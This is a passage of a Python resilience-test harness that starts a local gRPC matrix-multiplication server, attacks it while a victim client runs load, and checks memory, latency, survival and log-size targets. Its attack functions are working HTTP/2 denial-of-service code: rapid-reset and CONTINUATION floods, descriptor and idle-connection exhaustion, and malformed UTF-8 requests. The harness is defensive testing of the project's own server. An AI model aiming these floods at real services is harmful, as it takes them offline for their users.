        result_bytes_per_job=4 * d * d, jobs=p["count"],
        job_ends=dict(ends), job_end_at_s=[round(t, 3) for t in times],
        result_bytes_received=st.data_in,
        unary=[{"grpc_status": None if s is None else w.grpc_code_name(s),
                "error": e} for s, _, e in unary],
        **summarize_conns([conn]))


async def attack_fd_flood(ctx):
    p = ctx.params
    socks, errors = [], collections.Counter()
    loop = ctx.loop
    gate = asyncio.Semaphore(32)

    async def one():
        async with gate:
            if ctx.stop.is_set():
                return
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                await asyncio.wait_for(loop.sock_connect(
                    s, (ctx.host, ctx.port)), 2.0)
                socks.append(s)
            except (OSError, asyncio.TimeoutError) as e:
                errors[type(e).__name__] += 1
                s.close()
    await asyncio.gather(*(one() for _ in range(p["count"])))
    await ctx.hold()
    # A connection the server closed reads as EOF (or an error) now.
    closed = 0
    for s in socks:
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    return ctx.result(connected=len(socks), connect_errors=dict(errors),
                      closed_by_server=closed)


async def attack_rapid_reset(ctx):
    p = ctx.params
    paths = ([STREAM_PATH, GEMM_PATH] if p["paths"] == "gemm" else
             p["paths"].split("+"))
    blocks = [w.encode_headers(w.grpc_request_headers(
        path, "%s:%d" % (ctx.host, ctx.port))) for path in paths]
    resets = [0]
    reconnects = [0]
    capped_at = [None]
    all_conns = []

    def capped():
        if p["max_streams"] and resets[0] >= p["max_streams"]:
            capped_at[0] = capped_at[0] or ctx.loop.time()
            return True
        return False

    async def run_one():
        while not ctx.stop.is_set() and not capped():
            conn = ctx.conn()
            try:
                await conn.connect()
            except (OSError, asyncio.TimeoutError):
                reconnects[0] += 1
                await asyncio.sleep(0.1)
                continue
            all_conns.append(conn)
            ctx.mark_established()
            try:
                while not ctx.stop.is_set() and not conn.closed and \
                        not capped():
                    out = []
                    for i in range(p["batch"]):
                        sid = conn.next_sid
                        conn.next_sid += 2
                        out.append(w.frame(
                            w.HEADERS, w.END_HEADERS, sid,
                            blocks[i % len(blocks)]))
                        out.append(w.rst_stream(sid, w.CANCEL))
                    conn.write(b"".join(out))
                    resets[0] += p["batch"]
                    await conn.drain_or_stop(ctx.stop, 64 * 1024)
                    await asyncio.sleep(0)
                    if conn.next_sid > 2**31 - 2 * p["batch"]:
                        break
            except ConnClosed:
                pass
            if capped() and not conn.closed:
                await ctx.hold()  # connections stay open until released
            conn.abort()  # what is still buffered here is never sent
            if not ctx.stop.is_set() and not capped():
                reconnects[0] += 1
    await asyncio.gather(*(run_one() for _ in range(p["connections"])))
    sending = (capped_at[0] or ctx.loop.time()) - ctx.started
    return ctx.result(streams_reset=resets[0],
                      sending_s=round(sending, 3),
                      resets_per_s=round(resets[0] / max(sending, 1e-9)),
                      reconnects=reconnects[0],
                      **summarize_conns(all_conns))


async def attack_continuation(ctx):
    p = ctx.params
    frames_sent = [0]
    per_conn = []
    all_conns = []
    mode = p["mode"]
    head = w.encode_headers(w.grpc_request_headers(
        GEMM_PATH, "%s:%d" % (ctx.host, ctx.port)))
    if mode == "value":
        # A literal field whose value is announced as 1 GiB; the frames that
        # follow carry its bytes.
        head += b"\x00" + w.encode_str("x-flood") + w.encode_int(GiB, 7)
    while not ctx.stop.is_set() and frames_sent[0] < p["frames"]:
        conn = ctx.conn()
        try:
            await conn.connect()
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.1)
            continue
        all_conns.append(conn)
        ctx.mark_established()
        size = conn.peer_max_frame
        if mode == "value":
            payload = b"a" * size
        elif mode == "fields":
            field = w.encode_literal("x-f", "v" * 20)
            payload = field * (size // len(field))
        else:
            payload = b""
        sid = conn.next_sid
        conn.next_sid += 2
        n = 0
        try:
            conn.write(w.frame(w.HEADERS, 0, sid, head))
            cont = w.frame(w.CONTINUATION, 0, sid, payload)
            while (not ctx.stop.is_set() and not conn.closed and
                   frames_sent[0] < p["frames"]):
                batch = min(64, p["frames"] - frames_sent[0])
                conn.write(cont * batch)
                n += batch
                frames_sent[0] += batch
                await conn.drain_or_stop(ctx.stop, 1 << 20)
                await asyncio.sleep(0)
        except ConnClosed:
            pass
        per_conn.append({"frames": n, "payload_bytes": n * len(payload),
                         "closed_by_server": conn.closed_by_peer})
        if not conn.closed:
            if frames_sent[0] >= p["frames"]:
                break  # keep the last connection open until released
            conn.close()
    await ctx.hold()
    for c in all_conns:
        c.abort()
    return ctx.result(frames_sent=frames_sent[0],
                      per_connection=per_conn[:20],
                      **summarize_conns(all_conns))


async def attack_idle_conns(ctx):
    p = ctx.params
    conns, errors = await connect_all(
        ctx, p["count"], concurrency=100, ack_settings=False,
        ack_pings=False, settings_pairs=[])
    await ctx.hold()
    close_all(conns)
    out = summarize_conns(conns, sum(errors.values()))
    out["connect_error_kinds"] = dict(errors)
    return ctx.result(**out)


async def attack_bad_utf8(ctx):
    p = ctx.params
    conns, errors = await connect_all(ctx, p["connections"])
    one = b"\0\0\x80\x3f"
    request = w.grpc_message(w.gemm_request(
        w.gemm_params(1, 1, 1,
                      kernel=b"\xff\xfe bad \xc0\x80 utf-8 \xed\xa0\x80"),
        one, one))
    sent = [0]
    per_conn = -(-p["count"] // max(1, len(conns)))

    async def caller(conn, quota):
        while quota[0] > 0 and not ctx.stop.is_set() and not conn.closed:
            quota[0] -= 1
            try:
                st = conn.open_stream(GEMM_PATH)
                conn.write(w.frame(w.DATA, w.END_STREAM, st.sid, request))
                sent[0] += 1
                await conn.drain_or_stop(ctx.stop)
                await first_of(st.done, ctx.stop, timeout=10)
                if not st.done.is_set():
                    return
            except ConnClosed:
                return
            conn.forget(st)

    async def on_conn(conn):
        quota = [per_conn]
        await asyncio.gather(*(caller(conn, quota)
                               for _ in range(p["inflight"])))
    await asyncio.gather(*(on_conn(c) for c in conns))
    ctx.mark_established()
    await ctx.hold()
    close_all(conns)
    return ctx.result(requests_sent=sent[0],
                      **summarize_conns(conns, sum(errors.values())))


ATTACK_FUNCTIONS = {
    "budget-fill": attack_budget_fill,
    "partial-unary": attack_partial_unary,
    "big-unary-unread": attack_big_unary_unread,
    "open-jobs": attack_open_jobs,
    "unread-results": attack_unread_results,
    "k0": attack_k0,
    "fd-flood": attack_fd_flood,
    "rapid-reset": attack_rapid_reset,
    "continuation": attack_continuation,
    "idle-conns": attack_idle_conns,
    "bad-utf8": attack_bad_utf8,
}


async def run_attack(name, ctx):
    """An attack's figures; an attack that fails says so instead."""
    try:
        return await ATTACK_FUNCTIONS[name](ctx)
    except asyncio.CancelledError:
        return ctx.result(error="cancelled: did not end in time")
    except Exception as e:  # pylint: disable=broad-except
        return ctx.result(error="%s: %s" % (type(e).__name__, e))


# --- the server and what it does ------------------------------------------

def read_proc_status(pid):
    out = {}
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                k, _, v = line.partition(":")
                if k in ("VmRSS", "VmHWM"):
                    out[k] = int(v.split()[0]) * 1024
                elif k == "Threads":
                    out[k] = int(v)
    except (OSError, ValueError):
        pass
    return out


def rss_by_mapping(pid, top=8):
    """The process's resident memory by mapping kind (/proc/PID/smaps), in
    MiB, the largest first: [heap], anonymous mappings, each file (a
    driver's device file, a library), so that memory that stays after an
    attack can be told apart."""
    totals = {}
    name = None
    try:
        with open("/proc/%d/smaps" % pid) as f:
            for line in f:
                fields = line.split()
                if not fields:
                    continue
                if "-" in fields[0] and not fields[0].endswith(":"):
                    name = fields[5] if len(fields) > 5 else "[anon]"
                    start, _, end = fields[0].partition("-")
                    # glibc's thread arenas grow in heaps of up to 64 MiB,
                    # each 64 MiB aligned.
                    lo, hi = int(start, 16), int(end, 16)
                    if (name == "[anon]" and lo % (64 << 20) == 0 and
                            hi - lo <= 64 << 20):
                        name = "[anon: 64 MiB heaps, malloc arenas]"
                elif fields[0] == "Rss:" and name is not None:
                    totals[name] = totals.get(name, 0) + int(fields[1])
    except (OSError, ValueError, IndexError):
        return {}
    ranked = sorted(totals.items(), key=lambda kv: -kv[1])[:top]
    return {k: round(v / 1024.0, 1) for k, v in ranked if v >= 1024}


def thread_cpu(pid):
    """{thread name: CPU seconds} of a process's threads, summed by name."""
    out = {}
    tick = os.sysconf("SC_CLK_TCK")
    try:
        tasks = os.listdir("/proc/%d/task" % pid)
    except OSError:
        return out
    for tid in tasks:
        try:
            with open("/proc/%d/task/%s/stat" % (pid, tid)) as f:
                stat = f.read()
        except OSError:
            continue
        # "tid (name) state ..."; the name may hold spaces and parentheses.
        name = stat[stat.index("(") + 1:stat.rindex(")")]
        fields = stat[stat.rindex(")") + 2:].split()
        out[name] = out.get(name, 0.0) + (int(fields[11]) +
                                          int(fields[12])) / tick
    return out


def cpu_between(before, after, top=8):
    """CPU seconds each thread name used between two thread_cpu()s."""
    used = {k: after[k] - before.get(k, 0.0) for k in after}
    busiest = sorted(used.items(), key=lambda kv: -kv[1])[:top]
    return {"total_s": round(sum(used.values()), 2),
            "busiest_threads_s": {k: round(v, 2) for k, v in busiest}}


def count_fds(pid):
    try:
        return len(os.listdir("/proc/%d/fd" % pid))
    except OSError:
        return None


class Sampler(threading.Thread):
    """VmRSS and threads every 100 ms, open descriptors every 500 ms."""

    def __init__(self, pid, period=0.1):
        super().__init__(daemon=True)
        self.pid, self.period = pid, period
        self.samples = []  # (monotonic time, rss bytes, threads, fds)
        self.stopped = threading.Event()
        self.lock = threading.Lock()

    def run(self):
        fds, n = None, 0
        while not self.stopped.is_set():
            status = read_proc_status(self.pid)
            if "VmRSS" not in status:
                return
            if n % 5 == 0:
                fds = count_fds(self.pid)
            n += 1
            with self.lock:
                self.samples.append((time.monotonic(), status["VmRSS"],
                                     status.get("Threads"), fds))
            self.stopped.wait(self.period)

    def window(self, start, end=None):
        with self.lock:
            return [s for s in self.samples
                    if s[0] >= start and (end is None or s[0] <= end)]

    def last_rss(self):
        with self.lock:
            return self.samples[-1][1] if self.samples else None

    def stop(self):
        self.stopped.set()


class ServerProcess:
    """gemm-server on a free port, its output in a log file."""

    def __init__(self, binary, flags, workdir, name, nofile=None):
        self.port_file = os.path.join(workdir, name + ".port")
        self.log_path = os.path.join(workdir, name + ".log")
        self.metrics_port_file = os.path.join(workdir, name + ".metrics-port")
        # Its metrics, scraped halfway through the attack: what the jobs
        # were waiting on when a victim stalls.
        self.argv = [binary, "--listen", "[::]:0", "--port-file",
                     self.port_file, "--metrics-listen", "127.0.0.1:0",
                     "--metrics-port-file", self.metrics_port_file] + flags
        self.nofile = nofile
        self.proc = None
        self.port = None
        self.log = None

    def start(self, timeout=30.0):
        nofile = self.nofile

        def limit():
            child_priority()
            if nofile:
                resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile))
        self.log = open(self.log_path, "wb")
        self.proc = subprocess.Popen(self.argv, stdout=self.log,
                                     stderr=subprocess.STDOUT,
                                     preexec_fn=limit, start_new_session=True)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError("gemm-server exited with %s: %s" % (
                    self.proc.returncode, self.log_tail()))
            try:
                with open(self.port_file) as f:
                    text = f.read().strip()
                if text:
                    self.port = int(text)
                    return self.port
            except OSError:
                pass
            time.sleep(0.05)
        raise RuntimeError("gemm-server wrote no port in %s s" % timeout)

    def alive(self):
        return self.proc is not None and self.proc.poll() is None

    def gauges(self, timeout=5.0):
        """The server's gemm_ series but histograms', {series: value}."""
        try:
            with open(self.metrics_port_file) as f:
                port = int(f.read().strip())
            with urllib.request.urlopen("http://127.0.0.1:%d/metrics" % port,
                                        timeout=timeout) as r:
                text = r.read().decode()
        except (OSError, ValueError) as e:
            return {"error": "%s: %s" % (type(e).__name__, e)}
        out = {}
        for line in text.splitlines():
            if not line.startswith("gemm_") or "_bucket{" in line:
                continue
            series, _, value = line.rpartition(" ")
            if series.endswith(("_sum", "_count")) or "_sum{" in series \
                    or "_count{" in series:
                continue
            try:
                out[series] = float(value)
            except ValueError:
                pass
        return out

    def dump_stacks(self, path):
        """Every thread's stack (gdb), to `path`; the error, if any."""
        try:
            r = subprocess.run(["gdb", "-p", str(self.proc.pid), "-batch",
                                "-ex", "thread apply all bt"],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                               timeout=120, check=False)
            with open(path, "wb") as f:
                f.write(r.stdout)
            return None
        except (OSError, subprocess.TimeoutExpired) as e:
            return "%s: %s" % (type(e).__name__, e)

    def log_bytes(self):
        try:
            return os.path.getsize(self.log_path)
        except OSError:
            return 0

    def log_tail(self, lines=5):
        try:
            with open(self.log_path, "rb") as f:
                f.seek(max(0, os.path.getsize(self.log_path) - 4096))
                text = f.read().decode("utf-8", "replace")
            return text.strip().splitlines()[-lines:]
        except OSError:
            return []

    def log_line_kinds(self, start_offset, limit=8):
        """The most frequent lines written after start_offset (numbers
        blanked), to say what the log filled up with."""
        kinds = collections.Counter()
        try:
            with open(self.log_path, "rb") as f:
                f.seek(start_offset)
                for line in f:
                    text = line.decode("utf-8", "replace").strip()
                    # Drop the timestamp and level spdlog puts first.
                    text = text.split("] ", 2)[-1]
                    kinds["".join("#" if c.isdigit() else c
                                  for c in text)[:160]] += 1
        except OSError:
            pass
        return [{"count": n, "line": t} for t, n in kinds.most_common(limit)]

    def stop(self, grace_s=15.0):
        """SIGTERM, then SIGKILL after grace_s: (exit code, how it ended)."""
        if self.proc.poll() is not None:
            return self.proc.returncode, "had exited"
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(grace_s)
            how = "SIGTERM"
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
            how = "SIGKILL after %s s" % grace_s
        self.log.close()
        return self.proc.returncode, how


async def probe_client(client, port, timeout=10.0):
    """A fresh connection + Info from [::1] by gemm-client info."""
    start = time.monotonic()
    try:
        proc = await asyncio.create_subprocess_exec(
            client, "info", "-s", "[::1]:%d" % port, "--timeout-s",
            str(timeout / 2), stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.PIPE, preexec_fn=child_priority)
    except OSError as e:
        return {"ok": False, "error": str(e)}
    try:
        _, err = await asyncio.wait_for(proc.communicate(), timeout)
    except asyncio.TimeoutError:
        proc.kill()
        await proc.wait()
        return {"ok": False, "error": "no answer in %s s" % timeout,
                "seconds": round(time.monotonic() - start, 3)}
    out = {"ok": proc.returncode == 0,
           "seconds": round(time.monotonic() - start, 3)}
    if proc.returncode:
        out["error"] = err.decode("utf-8", "replace").strip()[-300:]
    return out


async def probes(client, port):
    """gemm-client info from [::1] (the target), and this module's own Info
    from 127.0.0.1, the attackers' address (for information)."""
    fresh, raw = await asyncio.gather(probe_client(client, port),
                                      raw_info("127.0.0.1", port, 5.0))
    raw.pop("info", None)
    return {"info_from_ipv6": fresh, "info_from_attacker_address": raw}


async def run_victim(client, port, cfg, duration_s, json_path):
    argv = [client, "load", "-s", "[::1]:%d" % port,
            "--shapes", cfg.victim_shapes, "-r", str(cfg.victim_rate),
            "-c", str(cfg.victim_concurrency), "--duration-s", str(duration_s),
            "--warmup-s", str(cfg.victim_warmup_s), "--verify-every", "1",
            "--job-timeout-ms", "5000", "--unary-share",
            str(cfg.victim_unary_share), "-q", "--json", json_path]
    argv += cfg.victim_arg
    start = time.monotonic()
    proc = await asyncio.create_subprocess_exec(
        *argv, stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.PIPE, preexec_fn=child_priority)
    limit = cfg.victim_warmup_s + duration_s + 120
    try:
        _, err = await asyncio.wait_for(proc.communicate(), limit)
        hung = False
    except asyncio.TimeoutError:
        proc.kill()
        _, err = await proc.communicate()
        hung = True
    out = {"argv": argv[1:], "exit_code": proc.returncode, "hung": hung,
           "seconds": round(time.monotonic() - start, 3)}
    try:
        with open(json_path) as f:
            report = json.load(f)
    except (OSError, ValueError):
        out["error"] = err.decode("utf-8", "replace").strip()[-500:] or \
            "no JSON report"
        return out
    sent = report.get("sent", 0)
    ok = report.get("answered_ok", 0)
    failed = report.get("answered_errors", 0)
    out.update({
        "sent": sent, "ok": ok, "failed": failed,
        "unanswered": sent - ok - failed,
        "verified": report.get("verified", 0),
        "verify_failures": report.get("verify_failures", 0),
        "errors_by_code": report.get("errors_by_code", {}),
        "error_sample": report.get("error_sample", {}),
        "latency_ms": {k: report.get("latency_ms", {}).get(k)
                       for k in ("p50", "p90", "p99", "p999", "max")},
        "requests_per_s": report.get("requests_per_s"),
        "stream_restarts": report.get("stream_restarts", 0),
        "server_counts_agree": report.get("server_counts_agree"),
        "timeline_p99_ms": [s.get("p99_ms") for s in
                            report.get("timeline", [])],
    })
    return out


def mib(n):
    return None if n is None else round(n / MiB, 1)


async def run_scenario(name, attacks, cfg, overrides, baseline):
    """A fresh server; idle; victim; attacks for hold_s; settle; figures."""
    nofile = None
    if "fd-flood" in attacks:
        nofile = attack_params("fd-flood", cfg.scale,
                               overrides)["server_nofile"] or None
    server = ServerProcess(cfg.server, cfg.server_flags, cfg.workdir, name,
                           nofile)
    port = server.start()
    sampler = Sampler(server.proc.pid)
    sampler.start()
    t0 = time.monotonic()
    info = None
    for _ in range(50):
        got = await raw_info("127.0.0.1", port, 2.0)
        if got["ok"]:
            info = got["info"]
            break
        await asyncio.sleep(0.2)
    if info is None:
        raise RuntimeError("%s: the server never answered Info: %s" %
                           (name, server.log_tail()))
    await asyncio.sleep(cfg.idle_s)
    idle = [s[1] for s in sampler.window(time.monotonic() - cfg.idle_s)]
    idle_rss = sorted(idle)[len(idle) // 2] if idle else sampler.last_rss()
    idle_mappings = rss_by_mapping(server.proc.pid)
    idle_fds = next((s[3] for s in reversed(sampler.window(t0))
                     if s[3] is not None), None)
    log_idle = server.log_bytes()

    victim_s = cfg.lead_s + cfg.hold_s + 1.0
    victim_task = asyncio.ensure_future(run_victim(
        cfg.client, port, cfg, victim_s,
        os.path.join(cfg.workdir, name + ".victim.json")))
    await asyncio.sleep(cfg.victim_warmup_s + cfg.lead_s)

    stop = asyncio.Event()
    t_attack = time.monotonic()
    cpu_attack = thread_cpu(server.proc.pid)
    log_attack = server.log_bytes()
    contexts = {a: AttackContext("127.0.0.1", port, info,
                                 attack_params(a, cfg.scale, overrides), stop,
                                 cfg.rss_bound) for a in attacks}
    tasks = {a: asyncio.ensure_future(run_attack(a, contexts[a]))
             for a in attacks}

    async def probe_later():
        await asyncio.sleep(cfg.hold_s / 2)
        found = await probes(cfg.client, port)
        found["server_metrics"] = await asyncio.get_running_loop(
        ).run_in_executor(None, server.gauges)
        if cfg.dump_stacks:
            path = os.path.join(cfg.workdir, name + ".stacks.txt")
            error = await asyncio.get_running_loop().run_in_executor(
                None, server.dump_stacks, path)
            found["stacks"] = error or path
        return found
    during_task = asyncio.ensure_future(probe_later())
    safety_abort = None
    crashed_during = False
    while time.monotonic() - t_attack < cfg.hold_s:
        await asyncio.sleep(0.1)
        rss = sampler.last_rss() or 0
        if cfg.rss_safety_bytes and rss > cfg.rss_safety_bytes:
            safety_abort = ("server RSS %d MiB over the safety cap %d MiB: "
                            "attack stopped early" %
                            (mib(rss), mib(cfg.rss_safety_bytes)))
            break
        if not server.alive():
            crashed_during = True
            break
        if attacks and all(t.done() for t in tasks.values()):
            break  # every attack gave up early (an error, say)
    t_release = time.monotonic()
    cpu_release = thread_cpu(server.proc.pid)
    stop.set()
    results = {}
    for a, task in tasks.items():
        try:
            results[a] = await asyncio.wait_for(task, 60)
        except asyncio.TimeoutError:
            results[a] = {"error": "did not let go within 60 s of release"}
    t_released = time.monotonic()
    log_release = server.log_bytes()
    probe_during = await during_task
    await asyncio.sleep(cfg.settle_s)
    rss_after = sampler.last_rss()
    after_mappings = rss_by_mapping(server.proc.pid)
    probe_after = await probes(cfg.client, port) if server.alive() else {
        "info_from_ipv6": {"ok": False, "error": "server not running"}}
    victim = await victim_task
    # Once the victim is done: a server that still refuses is wedged.
    probe_final = await probes(cfg.client, port) if server.alive() else {
        "info_from_ipv6": {"ok": False, "error": "server not running"}}
    probe_final["seconds_after_release"] = round(time.monotonic() -
                                                 t_released, 1)
    log_after = server.log_bytes()
    status = read_proc_status(server.proc.pid)
    alive = server.alive()
    fds_after = count_fds(server.proc.pid)
    sampler.stop()
    exit_code, how = server.stop()
    window = sampler.window(t_attack, t_released)
    whole = sampler.window(t0)
    peak = max((s[1] for s in whole), default=None)
    out = {
        "scenario": name, "attacks": attacks,
        "server": {
            "argv": server.argv[1:], "port": port, "nofile_limit": nofile,
            "info": info,
            "idle_rss_mib": mib(idle_rss),
            "peak_rss_mib": mib(peak),
            "peak_rss_during_attack_mib": mib(max((s[1] for s in window),
                                                  default=None)),
            "vm_hwm_mib": mib(status.get("VmHWM")),
            "rss_at_release_mib": mib(window[-1][1] if window else None),
            "rss_after_mib": mib(rss_after),
            "settle_s": cfg.settle_s,
            # Resident MiB by mapping at idle and after the settle time.
            "rss_by_mapping_idle_mib": idle_mappings,
            "rss_by_mapping_after_mib": after_mappings,
            "threads_peak": max((s[2] or 0 for s in whole), default=None),
            # Server CPU during the attack, by thread name (gRPC's, the
            # scheduler's workers'): what a stalled victim waited on.
            "cpu_during_attack": dict(
                cpu_between(cpu_attack, cpu_release),
                seconds=round(t_release - t_attack, 2)),
            "fds_idle": idle_fds,
            "fds_peak": max((s[3] or 0 for s in whole), default=None),
            "fds_after": fds_after,
            "alive_at_end": alive,
            "crashed": not alive,
            "crashed_during_attack": crashed_during,
            "exit_code": exit_code, "stopped_by": how,
            "log_bytes_idle": log_idle,
            "log_bytes_attack": log_release - log_attack,
            "log_bytes_after_attack": log_after - log_release,
            "log_bytes_total": server.log_bytes(),
            "log_top_lines": server.log_line_kinds(log_attack),
            "log_tail": server.log_tail(3) if not alive else [],
            "rss_series_mib": [[round(s[0] - t0, 1), mib(s[1])]
                               for s in whole[::5]],
            "timeline_s": {"attack_start": round(t_attack - t0, 2),
                           "release": round(t_release - t0, 2),
                           "released": round(t_released - t0, 2)},
        },
        "attack": results,
        "probe_during": probe_during,
        "probe_after": probe_after,
        "probe_final": probe_final,
        "victim": victim,
    }
    if safety_abort:
        out["safety_abort"] = safety_abort
    out["targets"] = targets_of(out, cfg, baseline)
    return out


def targets_of(s, cfg, baseline):
    """Issue 12's targets for one scenario: {name: {value, bound, pass}}."""
    if not s["attacks"]:
        return {}
    srv, victim = s["server"], s["victim"]
    t = {}
    peak = max(x for x in (srv["peak_rss_mib"], srv["vm_hwm_mib"])
               if x is not None)
    t["rss_peak_within_bound"] = {"value_mib": peak,
                                  "bound_mib": mib(cfg.rss_bound),
                                  "pass": peak <= mib(cfg.rss_bound)}
    after, idle = srv["rss_after_mib"], srv["idle_rss_mib"]
    bound = round(idle + cfg.rss_return_mib, 1) if idle is not None else None
    t["rss_returns_to_idle"] = {
        "value_mib": after, "bound_mib": bound,
        "pass": after is not None and bound is not None and after <= bound}
    t["server_survives"] = {"value": not srv["crashed"],
                            "pass": not srv["crashed"]}
    for when in ("during", "after"):
        p = s["probe_" + when].get("info_from_ipv6", {})
        t["accepts_connections_" + when] = {"value": p.get("ok", False),
                                            "pass": p.get("ok", False)}
    lost = None
    if "sent" in victim:
        lost = (victim["failed"] + victim["unanswered"] +
                victim["verify_failures"])
    t["victim_loses_no_job"] = {
        "value": lost if lost is not None else "no report",
        "pass": lost == 0 and not victim.get("hung")}
    p99 = victim.get("latency_ms", {}).get("p99")
    base = baseline.get("victim", {}).get("latency_ms", {}).get("p99") \
        if baseline else None
    bound = base * cfg.p99_factor if base else None
    t["victim_p99_within_%gx" % cfg.p99_factor] = {
        "value_ms": p99, "bound_ms": bound,
        "pass": bool(p99 and bound and p99 <= bound)}
    # bad-utf8 alone: with other attacks the log holds their lines too, and
    # bad-utf8 may get few requests in (the client's connection cap, or the
    # client shut out), so bytes per bad request says nothing there.
    if s["attacks"] == ["bad-utf8"]:
        sent = s["attack"]["bad-utf8"].get("requests_sent", 0)
        per = srv["log_bytes_attack"] / sent if sent else None
        t["log_bytes_per_bad_request"] = {
            "value": None if per is None else round(per, 3),
            "bound": cfg.log_bytes_per_request,
            "pass": per is not None and per <= cfg.log_bytes_per_request}
    return t


# --- report ---------------------------------------------------------------

def host_description():
    mem = {}
    try:
        with open("/proc/meminfo") as f:
            for line in f:
                k, _, v = line.partition(":")
                mem[k] = int(v.split()[0]) * 1024
    except OSError:
        pass
    cpu = platform.processor()
    try:
        with open("/proc/cpuinfo") as f:
            cpu = next((l.split(":", 1)[1].strip() for l in f
                        if l.startswith("model name")), cpu)
    except OSError:
        pass
    return {"hostname": socket.gethostname(), "kernel": platform.release(),
            "cpu": cpu, "cpus": os.cpu_count(),
            "mem_total_mib": mib(mem.get("MemTotal")),
            "mem_available_mib": mib(mem.get("MemAvailable")),
            "python": platform.python_version(),
            "attacker_nofile": resource.getrlimit(resource.RLIMIT_NOFILE)[0]}


def binary_description(path):
    digest = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            digest.update(block)
    try:
        version = subprocess.run([path, "--version"], capture_output=True,
                                 timeout=10, text=True).stdout.strip()
    except (OSError, subprocess.TimeoutExpired):
        version = None
    return {"path": os.path.abspath(path), "sha256": digest.hexdigest()[:16],
            "mtime": datetime.datetime.fromtimestamp(
                os.path.getmtime(path)).isoformat(timespec="seconds"),
            "version": version}


def commit_of(explicit):
    if explicit:
        return explicit
    for where in (os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        try:
            return subprocess.run(["git", "-C", where, "rev-parse", "HEAD"],
                                  capture_output=True, text=True, timeout=10,
                                  check=True).stdout.strip()
        except (OSError, subprocess.SubprocessError):
            continue
    return None


def attacker_saw(s):
    """A few words per attack: what the server answered."""
    words = []
    for a, r in s["attack"].items():
        bits = []
        if r.get("error"):
            bits.append("error " + r["error"][:40])
        for key in ("grpc_status", "job_ends", "rst_stream_in", "goaway"):
            for k, v in (r.get(key) or {}).items():
                bits.append("%s%s x%d" % ("GOAWAY " if key == "goaway" else
                                          "RST " if key == "rst_stream_in"
                                          else "", k, v))
        if r.get("closed_by_server"):
            bits.append("closed %d" % r["closed_by_server"])
        words.append("%s: %s" % (a, ", ".join(bits[:4]) or "nothing"))
    return "; ".join(words)


def table(report):
    rows = [("scenario", "peak MiB", "after/idle MiB", "info d/a/f", "victim "
             "sent/ok/fail/lost", "p99 ms (x)", "log KiB", "targets")]
    base = report.get("baseline") or {}
    base_p99 = base.get("victim", {}).get("latency_ms", {}).get("p99")
    for s in ([base] if base else []) + report["scenarios"]:
        srv, v = s["server"], s["victim"]
        p99 = v.get("latency_ms", {}).get("p99")
        ratio = ("%.1f" % (p99 / base_p99)) if p99 and base_p99 else "-"
        targets = s.get("targets", {})
        passed = sum(1 for x in targets.values() if x["pass"])
        missed = [k for k, x in targets.items() if not x["pass"]]
        rows.append((
            s["scenario"] + (" CRASHED" if srv["crashed"] else ""),
            "%s" % max(x for x in (srv["peak_rss_mib"], srv["vm_hwm_mib"], 0)
                       if x is not None),
            "%s/%s" % (srv["rss_after_mib"], srv["idle_rss_mib"]),
            "/".join("ok" if s["probe_" + w_].get("info_from_ipv6",
                                                   {}).get("ok")
                     else "NO" for w_ in ("during", "after", "final")),
            "%s/%s/%s/%s" % (v.get("sent", "-"), v.get("ok", "-"),
                             v.get("failed", "-"), v.get("unanswered", "-")),
            "%s (%s)" % ("-" if p99 is None else "%.1f" % p99, ratio),
            "%.0f" % (srv["log_bytes_attack"] / 1024),
            "%d/%d%s" % (passed, len(targets),
                         (" miss: " + ",".join(m.replace("victim_", "v_")
                                               for m in missed))
                         if missed else "")))
    widths = [max(len(str(r[i])) for r in rows) for i in range(len(rows[0]))]
    lines = ["  ".join(str(c).ljust(wd) for c, wd in zip(r, widths)).rstrip()
             for r in rows]
    lines.insert(1, "  ".join("-" * wd for wd in widths))
    lines.append("")
    for s in report["scenarios"]:
        lines.append("%-17s %s" % (s["scenario"], attacker_saw(s)))
    return "\n".join(lines)


# --- command line ---------------------------------------------------------

def add_scale_flags(p):
    p.add_argument("--scale", choices=["ci", "full"], default="ci",
                   help="attack sizes and driver timings (see `params`)")
    p.add_argument("--set", action="append", metavar="ATTACK.PARAM=VALUE",
                   help="override an attack parameter (repeatable)")


def main_run(args):
    scale = SCALES[args.scale]
    for k, v in scale.items():
        if getattr(args, k, None) is None:
            setattr(args, k, v)
    overrides = parse_set(args.set)
    attacks = ATTACKS if args.attacks == "all" else args.attacks.split(",")
    for a in attacks:
        if a not in ATTACK_FUNCTIONS:
            raise SystemExit("unknown attack %r; known: %s" %
                             (a, ", ".join(ATTACKS)))
    raise_own_nofile()
    lower_own_priority(args.attacker_nice)
    # The server's own connection caps (--max-client-connections 1024, at
    # most half of what the server can hold): fd-flood's server has 256
    # descriptors (192 for connections), so one address holds at most 96 and
    # the rest of its flood is refused; idle-conns' 500 connections are all
    # admitted.
    defaults = {"--shutdown-grace-s": "3", "--drain-delay-s": "0"}
    if args.max_inflight_bytes:
        defaults["--max-inflight-bytes"] = str(args.max_inflight_bytes)
        # The largest job a quarter of the budget, as the defaults are (2 of
        # 8 GiB), so that one client's share is a quarter too.
        defaults["--max-job-bytes"] = str(min(2 * GiB,
                                              args.max_inflight_bytes // 4))
    if args.grpc_memory_bytes:
        defaults["--grpc-memory-bytes"] = str(args.grpc_memory_bytes)
    extra = []
    for item in args.server_arg or []:
        extra += shlex.split(item)
    given = {a.split("=", 1)[0] for a in extra if a.startswith("--")}
    args.server_flags = [x for k, v in defaults.items() if k not in given
                         for x in (k, v)] + extra
    args.victim_arg = [x for item in args.victim_arg or []
                       for x in shlex.split(item)]
    args.rss_safety_bytes = args.rss_safety_mib * MiB
    if not args.rss_safety_bytes:
        args.rss_safety_bytes = int(host_description()["mem_total_mib"] *
                                    0.6 * MiB)
